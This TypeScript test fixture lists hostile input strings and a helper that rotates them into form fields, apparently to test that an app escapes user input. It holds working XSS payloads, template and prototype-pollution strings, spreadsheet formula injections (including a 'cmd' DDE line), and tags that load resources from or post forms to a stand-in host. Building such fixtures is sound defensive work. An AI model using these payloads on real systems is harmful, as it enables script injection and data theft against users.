import { must } from '../../shared/words/assert.ts'

const RUN = 'window.ran=1'
const ELSEWHERE = 'http://hostile.example'

/** Texts that become script, markup, a request or a formula wherever somebody forgets what they are. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${ELSEWHERE}/a.js></script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x data-hostile onerror=${RUN}>`,
  `<img src=${ELSEWHERE}/a.png data-hostile>`,
  `<svg data-hostile onload=${RUN}>`,
  `<svg><script data-hostile>${RUN}</script></svg>`,
  `<svg><use href="data:image/svg+xml,x#x" data-hostile></svg>`,
  `<math><mi data-hostile xlink:href="javascript:${RUN}">`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${ELSEWHERE}/a">`,
  `<base href="${ELSEWHERE}/">`,
  `<link rel=stylesheet href=${ELSEWHERE}/a.css data-hostile>`,
  `<style data-hostile>*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action=${ELSEWHERE} data-hostile><button>`,
  `<a href="javascript:${RUN}" data-hostile>x</a>`,
  `<body onload=${RUN} data-hostile>`,
  `<video data-hostile src=x onerror=${RUN}>`,
  `<audio data-hostile src=x onerror=${RUN}>`,
  `<details data-hostile open ontoggle=${RUN}>`,
  `<input data-hostile autofocus onfocus=${RUN}>`,
  `<marquee data-hostile onstart=${RUN}>`,
  `<x-hostile onclick=${RUN}>x</x-hostile>`,
  `<template data-hostile><script>${RUN}</script></template>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img data-hostile src=x onerror\u0009=${RUN}>`,
  `<IMG DATA-HOSTILE SRC=X ONERROR=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `" onmouseover="${RUN}" data-hostile="`,
  `' onfocus='${RUN}' data-hostile='`,
  '` data-hostile onclick=x `',
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `[x](javascript:${RUN})`,
  `[x](${ELSEWHERE}/a)`,
  `![x](${ELSEWHERE}/b.png)`,
  `![x](javascript:${RUN})`,
  `<${ELSEWHERE}/c>`,
  `[x]: ${ELSEWHERE} "y"`,
  '```html\n<script>window.ran=1</script>\n```',
  '| a | b |\n|---|---|\n| <b data-hostile>x</b> | y |',
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  '<%= window.ran=1 %>',
  '=HYPERLINK("http://hostile.example","x")',
  '+1+cmd|x!A1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '__proto__',
  '\u202E\u2066<script>\u2069',
  `\uD83D<script>${RUN}</script>`,
]

/** All of them in one text, as somebody would paste them. */
const ALL_HOSTILE = HOSTILE_TEXTS.join('\n\n')

/** Fields of one kind share what has been given: each text comes once before any comes again. */
export type FieldKind = 'line' | 'prose' | 'of people' | 'set-up' | 'name'

/** A text for a field, whole, and no longer than it may hold; all of them where there is room. */
export type HostileTexts = (kind: FieldKind, longest: number) => string

/** Gives one after the other, whatever number of logs is filled from it. */
export function hostileTexts(): HostileTexts {
  const waiting = new Map<FieldKind, readonly string[]>()
  return (kind, longest) => {
    if (longest > ALL_HOSTILE.length) return ALL_HOSTILE
    const texts = waiting.get(kind) ?? HOSTILE_TEXTS
    const text = must(
      texts.find(({ length }) => length <= longest),
      'a text short enough',
    )
    waiting.set(kind, [...texts.filter((other) => other !== text), text])
    return text
  }
}
